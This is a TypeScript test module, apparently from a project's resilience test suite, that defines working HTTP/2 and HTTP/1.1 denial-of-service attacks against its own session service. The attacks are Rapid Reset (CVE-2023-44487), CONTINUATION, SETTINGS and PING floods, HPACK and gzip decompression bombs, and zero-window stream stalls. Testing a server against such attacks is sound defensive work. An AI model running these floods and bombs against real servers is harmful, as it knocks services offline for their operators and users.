import { gzipSync } from "node:zlib";
import { frame, headerBlock } from "../../support/fixtures/http2-bytes.ts";
import type { Attack } from "./attack.ts";
import {
  type Attacker,
  type Prey,
  attackers,
  closedWindow,
  flood,
  grpcCall,
  grpcHeaders,
  opening,
  settingsFrame,
} from "./attacker.ts";

/** Opens connections and has each write pieces until it is cut or has written them all. */
function flooding(
  name: string,
  size: number,
  times: number,
  piece: (i: number, prey: Prey) => Buffer,
  reads = true,
): Attack {
  return {
    name,
    size,
    async run(prey, count) {
      const held = await attackers(prey, count, reads);
      for (const { socket } of held) socket.write(opening());
      await Promise.all(held.map((attacker) => flood(attacker, times, (i) => piece(i, prey))));
      return held;
    },
  };
}

/** Opens connections whose window lets no answer through, and makes calls on each. */
function unread(name: string, size: number, calls: number, path: string): Attack {
  return {
    name,
    size,
    patience: "unread",
    async run(prey, count) {
      const held = await attackers(prey, count);
      for (const { socket } of held) {
        socket.write(opening(closedWindow));
        for (let i = 0; i < calls; i++) socket.write(grpcCall(prey, 2 * i + 1, path));
      }
      return held;
    },
  };
}

const get = headerBlock({ ":method": "GET", ":path": "/livez", ":scheme": "http", ":authority": "h" });
const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));

/** A header of 4,000 bytes into the table, then two bytes that stand for it, 8,000 times: 64 MB when they are unpacked. */
function hpackBomb(stream: number): Buffer {
  const value = Buffer.alloc(4000, "x");
  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f]), varint(4000 - 127), value]);
  const block = Buffer.concat([get, literal, Buffer.alloc(8000, 0xbe)]);
  return frame(1, 5, stream, block);
}

function varint(value: number): Buffer {
  return Buffer.from([(value & 0x7f) | 0x80, value >> 7]);
}

/** Ways to hold or fill an HTTP/2 connection. */
export const http2Attacks: readonly Attack[] = [
  flooding("streams reset as soon as they are opened (CVE-2023-44487)", 20, 40_000, (i) =>
    Buffer.concat([frame(1, 5, 2 * i + 1, get), frame(3, 0, 2 * i + 1, "\0\0\0\x08")]),
  ),
  flooding("CONTINUATION without end", 20, 20_000, (i) =>
    i === 0 ? frame(1, 1, 1, get) : frame(9, 0, 1, headerBlock({ x: "x".repeat(100) })),
  ),
  flooding("HPACK bombs", 20, 200, (i) => hpackBomb(2 * i + 1)),
  flooding(
    "SETTINGS without end, acknowledgements unread",
    20,
    100_000,
    () => settingsFrame([[4, 65_535]]),
    false,
  ),
  flooding("PING without end, answers unread", 20, 100_000, () => frame(6, 0, 0, "pingpong"), false),
  flooding("WINDOW_UPDATE of nothing", 20, 1000, () => frame(8, 0, 0, "\0\0\0\0")),
  flooding("PRIORITY without end", 20, 50_000, (i) => frame(2, 0, (2 * i + 1) % 2 ** 30, "\0\0\0\0\x10")),
  flooding("DATA of nothing without end", 20, 50_000, (i, prey) =>
    i === 0 ? frame(1, 4, 1, grpcHeaders(prey, "/session.v1.SessionService/Create")) : frame(0, 0, 1),
  ),
  flooding("gzip bombs in gRPC", 10, 20, (i, prey) => {
    const head = Buffer.from([1, 0, 0, 0, 0]);
    head.writeUInt32BE(bomb.length, 1);
    const body = Buffer.concat([head, bomb]);
    const pieces = [
      frame(
        1,
        4,
        2 * i + 1,
        grpcHeaders(prey, "/session.v1.SessionService/Create", { "grpc-encoding": "gzip" }),
      ),
    ];
    for (let at = 0; at < body.length; at += 16_000) {
      pieces.push(frame(0, at + 16_000 >= body.length ? 1 : 0, 2 * i + 1, body.subarray(at, at + 16_000)));
    }
    return Buffer.concat(pieces);
  }),
  {
    name: "25,000 streams with half a call",
    size: 100,
    patience: "request",
    async run(prey, size) {
      const held = await attackers(prey, size);
      const call = grpcHeaders(prey, "/session.v1.SessionService/Create");
      for (const { socket } of held) {
        socket.write(opening());
        for (let i = 0; i < 250; i++) socket.write(frame(1, 4, 2 * i + 1, call));
      }
      return held;
    },
  },
  unread("answers that no window lets through", 20, 250, "/session.v1.SessionService/List"),
  unread("revocations watched and not read", 20, 100, "/session.v1.SessionService/WatchRevocations"),
  unread("health watched and not read", 20, 100, "/grpc.health.v1.Health/Watch"),
];

/** Bombs for those who read a body whole. */
export const bodyAttacks: readonly Attack[] = [
  ["gzip bombs in Connect", "/session.v1.SessionService/Create"],
  ["gzip bombs in REST", "/session/v1/sessions"],
].map(([name = "", path = ""]) => ({
  name,
  size: 20,
  async run(prey: Prey, size: number): Promise<readonly Attacker[]> {
    const held = await attackers(prey, size, true, "http/1.1");
    const head =
      `POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: ${prey.basic}\r\nContent-Type: application/json\r\n` +
      `Content-Encoding: gzip\r\nContent-Length: ${bomb.length}\r\n\r\n`;
    const request = Buffer.concat([Buffer.from(head), bomb]);
    await Promise.all(held.map((attacker) => flood(attacker, 5, () => request)));
    return held;
  },
}));
